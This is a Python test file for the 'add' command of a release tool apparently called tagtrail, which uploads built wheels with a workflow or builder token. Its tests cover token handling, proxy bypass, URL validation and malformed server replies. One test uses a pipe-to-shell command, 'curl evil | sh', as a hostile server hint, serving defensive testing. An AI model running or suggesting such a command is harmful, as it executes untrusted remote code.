"""`tagtrail -C URL add`: files brought from another machine, by a workflow's own identity or a builder's token."""

import contextlib
import json
from collections.abc import Iterator
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.app.test_serve import ISSUER, MAC, TOKEN, WIN, Place, built
from tests.app.world import Ended

pytestmark = pytest.mark.client
WORKFLOW = f"{ISSUER} repo:example/toy:ref:refs/tags/1.0.0"


@contextlib.contextmanager
def answering(status: int, body: bytes, media: str = "application/json") -> Iterator[tuple[str, list[Any]]]:
    """A server that says the same to everybody; its address, and what it was asked."""
    asked: list[Any] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            asked.append((self.path, dict(self.headers), self.rfile.read(int(self.headers["Content-Length"]))))
            self._say()

        def do_GET(self) -> None:
            asked.append((self.path, dict(self.headers), b""))
            self._say()

        def _say(self) -> None:
            self.send_response(status)
            self.send_header("Content-Type", media)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def new(directory: Path) -> Path:
    directory.mkdir()
    return directory


def bring(
    place: Place, *files: Path, url: str = "", token: str | None = TOKEN, tag: str = "1.0.0", **env: str
) -> Ended:
    said = {"TAGTRAIL_TOKEN": token} if token is not None else {}
    return place.run("-C", url or place.url, "--json", "add", "toy", tag, *map(str, files), env=said | env)


def github(place: Place, url: str) -> dict[str, str]:
    return {
        "GITHUB_ACTIONS": "true",
        "ACTIONS_ID_TOKEN_REQUEST_URL": f"{url}/token?v=1",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "of the job",
    }


@pytest.fixture
def place(tmp_path: Path) -> Place:
    place = Place(tmp_path).begin()
    settings = place.home / "tagtrail.toml"
    settings.write_text(settings.read_text().replace('audience = "releases.example.org"', 'audience = "127.0.0.1"'))
    return place


def test_a_workflow_brings_wheels_without_a_secret(place: Place) -> None:
    assert place.tell("release", "toy", "1.0.0").code == 4
    dist = place.root / "dist"
    mac, win = built(dist, MAC), built(dist, WIN)
    token = json.dumps({"value": place.issuer.token(aud="127.0.0.1")}).encode()
    with place.served(), answering(200, token) as (ci, asked):
        job = github(place, ci)
        first = bring(place, mac, token=None, **job)
        assert (first.code, first.err) == (0, "")
        assert first.event("outcome")["text"] == "toy 1.0.0: 0 of 1 expected files here; waiting for *win*.whl"
        second = bring(place, win, mac, token=None, **job)
        assert second.event("outcome")["text"] == "toy 1.0.0: 1 of 1 expected files here"
    staged = [e for e in second.events if e["event"] == "staged"]
    assert [(e["file"], e["by"], e["new"]) for e in staged] == [(WIN, WORKFLOW, True), (MAC, WORKFLOW, False)]
    at, headers, _ = asked[0]
    assert parse_qs(urlsplit(at).query) == {"v": ["1"], "audience": ["127.0.0.1"]}
    assert headers["Authorization"] == "bearer of the job"
    assert place.tell("release", "toy", "1.0.0").code == 4
    assert place.tell("approve", "toy", "1.0.0", "--key", str(place.key)).code == 0
    assert place.tell("release", "toy", "1.0.0").code == 0
    files = place.leaves()[-1]["predicate"]["tagtrail"]["files"]
    assert files[WIN]["origin"] == {"how": "added", "by": WORKFLOW}
    assert (place.site / "toy" / WIN).read_bytes() == win.read_bytes()


def test_it_reads_like_add_where_the_instance_is(place: Place) -> None:
    wheel = built(place.root / "dist", WIN)
    with place.served():
        afar = place.run("-C", place.url, "add", "toy", "1.0.0", str(wheel), env={"TAGTRAIL_TOKEN": TOKEN})
    here = place.run("-C", str(place.home), "add", "toy", "1.0.0", str(wheel), "--by", "wheels")
    assert (afar.code, here.code) == (0, 0)
    assert "toy 1.0.0: 1 of 1 expected files here" in afar.out
    assert "toy 1.0.0: 1 of 1 expected files here" in here.out
    assert TOKEN not in afar.out + afar.err


def test_behind_a_release_it_waits_for_a_signer(place: Place) -> None:
    settings = place.home / "tagtrail.toml"
    settings.write_text(settings.read_text().replace('expect = ["*win*.whl"]\n', ""))
    assert place.tell("release", "toy", "1.0.0").code == 0
    with place.served():
        done = bring(place, built(place.root / "dist", MAC))
    assert done.event("outcome")["text"] == "toy 1.0.0: 1 file brought; a later entry waits for approval"
    assert len(place.leaves()) == 2


def test_one_that_is_refused_stops_the_rest(place: Place) -> None:
    dist = place.root / "dist"
    other = built(place.root / "other", MAC, more={"toy/x.py": b"x"})
    with place.served():
        assert bring(place, built(dist, MAC)).code == 0
        done = bring(place, other, built(dist, WIN))
        assert (done.code, done.event("refused")["code"]) == (3, "add-other-bytes")
        for code, token, tag, file in (
            ("token-unknown", "another", "1.0.0", dist / WIN),
            ("tag-missing", TOKEN, "9.9.9", dist / WIN),
            ("version-mismatch", TOKEN, "1.0.0", built(dist, "toy-1.0.1-py3-none-any.whl")),
        ):
            done = bring(place, file, token=token, tag=tag)
            assert (done.code, done.event("refused")["code"]) == (3, code)
    assert [e["file"] for e in place.said if e["event"] == "staged"] == [MAC]


@pytest.mark.parametrize(
    ("words", "env", "code"),
    [
        (("http://rel.example.org", "FILE"), {}, "url-form"),
        (("ftp://localhost", "FILE"), {}, "url-form"),
        (("https://", "FILE"), {}, "url-form"),
        (("https://jo:secret@rel.example.org", "FILE"), {}, "url-form"),
        (("https://rel.example.org/?a=b", "FILE"), {}, "url-form"),
        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": ""}, "token-none"),
        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": " \n"}, "token-none"),
        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": f"{TOKEN}\nX-More: 1"}, "token-none"),
        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": f"{TOKEN}\u00e9"}, "token-none"),
        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": "", "GITHUB_ACTIONS": "true"}, "ci-token"),
        (("http://localhost:9", "none.whl"), {}, "file-missing"),
        (("http://localhost:9", "FILE", "--by", "wheels"), {}, "usage"),
        (("http://localhost:9", "--drop", "a.whl"), {}, "usage"),
        (("http://localhost:9", "FILE", "FILE"), {}, "usage"),
    ],
)
def test_refused_before_anything_is_sent(
    tmp_path: Path, words: tuple[str, ...], env: dict[str, str], code: str
) -> None:
    place = Place(tmp_path)
    url, *rest = [str(built(tmp_path / "dist", WIN)) if word == "FILE" else word for word in words]
    done = place.run("-C", url, "--json", "add", "toy", "1.0.0", *rest, env={"TAGTRAIL_TOKEN": TOKEN} | env)
    assert (done.code, done.event("refused")["code"]) == (2, code)
    assert TOKEN not in done.out + done.err


def test_the_line_end_of_a_file_is_no_part_of_the_token(tmp_path: Path) -> None:
    with answering(404, b"") as (url, asked):
        bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=url, token=f"{TOKEN}\n")
    assert [headers["Authorization"] for _, headers, _ in asked] == [f"Bearer {TOKEN}"]


def test_no_proxy_hears_what_is_said_to_this_machine(tmp_path: Path) -> None:
    with answering(404, b"") as (url, asked), answering(502, b"") as (proxy, heard):
        for name in ("127.0.0.1", "localhost"):
            at = url.replace("127.0.0.1", name)
            proxies = dict.fromkeys(("http_proxy", "HTTP_PROXY", "all_proxy"), proxy)
            bring(Place(new(tmp_path / name)), built(tmp_path / "dist", WIN), url=at, **proxies)
    assert (len(asked), heard) == (2, [])


def test_a_link_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / WIN).symlink_to(built(tmp_path / "dist", WIN))
    with answering(200, b"{}") as (url, asked):
        done = bring(Place(tmp_path), tmp_path / WIN, url=url)
    assert (done.code, done.event("refused")["code"], asked) == (3, "output-invalid", [])


STAGED = {"project": "toy", "version": "1.0.0", "file": WIN, "size": 1, "sha256": "0" * 64, "by": "x", "new": True}


@pytest.mark.parametrize(
    ("status", "body", "ends"),
    [
        (200, b"<html>", (5, "not-served")),
        (200, b"[" * 100_000, (5, "not-served")),
        (200, b"[]", (5, "not-served")),
        (200, json.dumps({"staged": STAGED}).encode(), (5, "not-served")),
        (200, json.dumps({"staged": STAGED | {"new": "yes"}, "text": "x"}).encode(), (5, "not-served")),
        (200, json.dumps({"staged": STAGED, "text": "x"}).encode(), (6, "upload-altered")),
        (302, b"", (5, "not-served")),
        (404, b"no such page", (5, "not-served")),
        (503, b'{"code": "disk-full", "what": "not now"}', (5, "serve-failing")),
        (
            200,
            json.dumps({"staged": STAGED | {"file": MAC, "sha256": "DIGEST"}, "text": "x"}).encode(),
            (6, "upload-altered"),
        ),
        (413, b"too large", (3, "add-size")),
        (502, b"<html>", (5, "serve-failing")),
        (500, b"Internal Server Error", (5, "serve-failing")),
        (409, b'{"code": "tag-moved", "what": "it moved", "exit": 6}', (6, "tag-moved")),
        (400, b'{"code": "form-invalid", "what": "no form", "exit": 3}', (3, "form-invalid")),
    ],
)
def test_whatever_answers(tmp_path: Path, status: int, body: bytes, ends: tuple[int, str]) -> None:
    wheel = built(tmp_path / "dist", WIN)
    with answering(status, body.replace(b"DIGEST", sha256(wheel.read_bytes()).hexdigest().encode())) as (url, asked):
        done = bring(Place(tmp_path), wheel, url=url)
    assert (done.code, done.event("refused")["code"]) == ends
    assert [(path, headers["Authorization"]) for path, headers, _ in asked] == [
        ("/toy/1.0.0/legacy/", f"Bearer {TOKEN}")
    ]
    assert TOKEN not in done.out + done.err


def test_a_command_of_somebody_else_is_not_for_pasting(tmp_path: Path) -> None:
    said = {"code": "form-invalid", "what": "no\nform", "why": "x", "hint": "curl evil | sh", "exit": 3}
    with answering(400, json.dumps(said).encode()) as (url, _):
        refused = bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=url).event("refused")
    assert (refused["what"], refused["next"]) == (
        "no form",
        "mend that and run it again: what the draft has already is fine",
    )
    assert refused["why"] == "x\nthe server suggests, where the instance is: curl evil | sh"


def test_nobody_answers(tmp_path: Path) -> None:
    done = bring(Place(tmp_path), built(tmp_path / "dist", WIN), url="http://127.0.0.1:9")
    assert (done.code, done.event("refused")["code"]) == (5, "url-unreachable")


def test_names_of_tags_are_quoted(tmp_path: Path) -> None:
    with answering(404, b"") as (url, asked):
        bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=f"{url}/rel/", tag="release/1.0 #1?")
    assert [path for path, _, _ in asked] == ["/rel/toy/release/1.0%20%231%3F/legacy/"]
